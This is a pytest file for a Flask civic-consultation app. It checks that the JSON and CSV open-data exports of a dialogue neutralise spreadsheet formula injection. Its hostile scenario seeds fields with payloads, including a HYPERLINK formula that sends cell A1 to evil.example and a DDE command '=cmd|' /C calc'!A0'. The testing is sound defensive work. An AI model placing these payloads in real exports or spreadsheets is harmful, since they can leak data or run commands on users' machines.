"""Open-data downloads of a dialogue's transparency log: JSON and CSV."""

import csv
import io
import json
from collections.abc import Iterator
from uuid import UUID

import pytest
from flask import Flask
from flask.testing import FlaskClient

from application.csv_files import FORMULA_STARTS
from application.dialogues import DialogueApp
from domain.roles import Role
from tests.builders import ACCOUNTS, DAY, MEMBERS, Scenario
from tests.demo_story import ACTIONS, PROPOSALS
from tests.web.conftest import make_web_app
from tests.web.public_site import MAIN, demo_site
from web import close_app
from web.public.opendata import SECTIONS


@pytest.fixture(scope="module")
def site(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Flask]:
    yield from demo_site(tmp_path_factory.mktemp("open-data"))


@pytest.fixture
def client(site: Flask) -> FlaskClient:
    return site.test_client()


def rows(client: FlaskClient, section: str) -> list[dict[str, str]]:
    """The rows of a CSV table: ``section`` names one of the demo's main dialogue, or is a path."""
    response = client.get(section if section.startswith("/") else f"{MAIN}/open-data/{section}.csv")
    assert response.status_code == 200
    assert response.content_type == "text/csv; charset=utf-8"
    assert response.headers["Content-Disposition"].startswith("attachment; filename=")
    return list(csv.DictReader(io.StringIO(response.get_data(as_text=True))))


def test_the_json_download_is_the_dialogue_log_with_its_licence(client: FlaskClient) -> None:
    response = client.get(f"{MAIN}/open-data.json")
    assert response.content_type == "application/json; charset=utf-8"
    assert "attachment" in response.headers["Content-Disposition"]
    data = json.loads(response.data)
    assert "Licence Ouverte" in data["licence"]["name"]
    dialogue = data["dialogue"]
    assert dialogue["slug"] == "ptge-vallee-de-la-veze"
    assert len(dialogue["meetings"]) == 9  # the last one convened, not held yet
    assert len(dialogue["proposals"]) == len(PROPOSALS)
    assert dialogue["decisions"][0]["deliberation_reference"] == "DEL-2026-041"


def test_the_csv_tables_have_the_right_rows(client: FlaskClient) -> None:
    proposals = rows(client, "proposals")
    assert len(proposals) == len(PROPOSALS)
    assert sum(1 for p in proposals if p["status"] == "withdrawn") == 1
    outcomes = rows(client, "outcomes")
    assert {o["deliberation_reference"] for o in outcomes} == {"DEL-2026-041"}
    assert len(outcomes) == sum(1 for p in PROPOSALS.values() if p.outcome)
    actions = rows(client, "actions")
    assert len(actions) == len(ACTIONS)
    assert {a["progress_percent"] for a in actions} >= {"100", "60"}
    assert len(rows(client, "meetings")) == 9
    composition = rows(client, "composition")
    assert {"instance", "category", "members"} <= set(composition[0])
    members = rows(client, "members")
    assert sum(int(c["members"]) for c in composition) == len(members)


def test_the_page_lists_the_downloads_and_the_licence(client: FlaskClient) -> None:
    html = client.get(MAIN).get_data(as_text=True)
    assert f'href="{MAIN}/open-data.json"' in html
    assert f'href="{MAIN}/open-data/proposals.csv"' in html
    assert "Licence Ouverte" in html
    assert "jamais comme une formule" in html  # what the CSV tables do with formulas (French by default)


class Hostile(Scenario):
    """The scenario, its instances named and its proposals titled as formulas."""

    def _instance(self, kind: str, name: str, members: list[str]) -> UUID:
        return super()._instance(kind, f"@{name}", members)

    def _draft(self, author: str, title: str) -> UUID:
        return super()._draft(author, f'=HYPERLINK("http://evil.example/?"&A1,"{title}")')


def hostile_dialogue(app: DialogueApp) -> set[str]:
    """A dialogue taken to an action, a text starting with each formula character in every table."""
    scenario = Hostile(app, slug="hostile")
    scenario.to_collective_work()
    texts = {"meeting": "=1+1", "place": "-2+3", "reason": "@SUM(A1:A9)", "body": "=Conseil"}
    texts |= {"reference": "-DEL-1", "justification": "+10 % only", "action": "+33 5 49 00 00 00"}
    texts |= {"organisation": "@Syndicat"}
    app.schedule_meeting(
        scenario.facilitator,
        scenario.id,
        instance_id=scenario.consultation_group(),
        title=texts["meeting"],
        starts_at=f"{DAY}T18:30",
        place=texts["place"],
        agenda=["diagnostic"],
    )
    app.withdraw_proposal(MEMBERS[0], scenario.id, scenario.objected_proposal(), reason=texts["reason"])
    session = scenario.live_session()
    app.post_contribution(MEMBERS[1], scenario.id, kind="idea", text="=cmd|' /C calc'!A0", meeting_id=session)
    vote = app.open_dot_vote(scenario.facilitator, scenario.id, session, subject="contributions", dots=2).id
    app.close_dot_vote(scenario.facilitator, scenario.id, vote)
    app.close_live_session(scenario.facilitator, scenario.id, session)
    proposal_id = scenario.presented()
    app.adopt_decision(
        ACCOUNTS[Role.DECISION_MAKER],
        scenario.id,
        body="conseil_municipal",
        body_name=texts["body"],
        deliberation_reference=texts["reference"],
        adopted_on=DAY,
        votes={"for": 20, "against": 3, "abstentions": 2},
        outcomes=[
            {
                "proposal_id": proposal_id,
                "outcome": "adopted_with_changes",
                "justification": texts["justification"],
            }
        ],
    )
    action_id = app.create_action(
        scenario.convenor,
        scenario.id,
        proposal_id=proposal_id,
        title=texts["action"],
        description="d",
        due_on=DAY,
    ).id
    operator = ACCOUNTS[Role.OPERATOR]
    app.assign_operator(
        scenario.convenor, scenario.id, action_id, operator_id=operator, organisation="@Syndicat"
    )
    return {*texts.values(), "@Comité de pilotage", "@Groupe eau"}


def test_no_cell_of_the_csv_tables_is_a_formula_for_a_spreadsheet(database_url: str) -> None:
    """OWASP: a text starting with = + - @ (tab, CR) gets a ' in front; numbers stay; JSON as typed."""
    site = make_web_app(database_url)
    try:
        texts = hostile_dialogue(site.extensions["dialogues"])
        client = site.test_client()
        tables = {
            section: rows(client, f"/dialogues/hostile/open-data/{section}.csv") for section in SECTIONS
        }
        document = client.get("/dialogues/hostile/open-data.json").get_data(as_text=True)
    finally:
        close_app(site)

    cells = {value for table in tables.values() for row in table for value in row.values()}
    assert not [value for value in cells if value.startswith(FORMULA_STARTS)]
    assert {f"'{text}" for text in texts} <= cells
    assert all(table for table in tables.values()), "every table has rows"
    proposals = {p["status"]: p for p in tables["proposals"]}
    assert proposals["withdrawn"]["title"].startswith("'=HYPERLINK(")
    assert proposals["withdrawn"]["withdrawal_reason"] == "'@SUM(A1:A9)"
    assert proposals["adopted_with_changes"]["endorsements"] == "2"  # counts are written as numbers
    assert tables["actions"][0]["progress_percent"] == "0"
    assert tables["outcomes"][0]["adopted_on"] == DAY
    assert tables["composition"][0]["members"].isdigit()
    assert [v["option"] for v in tables["dot_votes"]] == [""]  # a card's text stays with its group
    assert "cmd|" not in document
    assert all(
        json.dumps(text, ensure_ascii=False) in document for text in texts
    )  # the JSON keeps them as typed


def test_the_dot_votes_of_the_live_sessions_are_a_table_of_their_own(client: FlaskClient) -> None:
    votes = rows(client, "dot_votes")
    assert {v["meeting"] for v in votes} == {"Groupe milieux aquatiques - séance 2 : propositions"}
    assert [(v["rank"], v["option"], v["dots"]) for v in votes[:3]] == [
        ("1", "Restaurer la ripisylve de la Vèze aval", "4"),
        ("2", "Observatoire citoyen des assecs", "3"),
        ("3", "Préserver les zones humides de la plaine de Brassac", "2"),
    ]
    assert {(v["subject"], v["dots_per_member"], v["voters"], v["agenda_item"]) for v in votes} == {
        ("proposals", "3", "5", "Ripisylve et zones humides")
    }
    assert sum(int(v["dots"]) for v in votes) == 12  # of the 15 dots of five members
    meeting = next(
        m
        for m in json.loads(client.get(f"{MAIN}/open-data.json").data)["dialogue"]["meetings"]
        if m.get("dot_votes")
    )
    assert meeting["dot_votes"][0]["results"][0]["dots"] == 4
    assert meeting["clusters"] == {"Température et berges": "Berges, ombre et température"}
    assert [r["outcome"] for r in meeting["rounds"]] == ["validated"] * 6
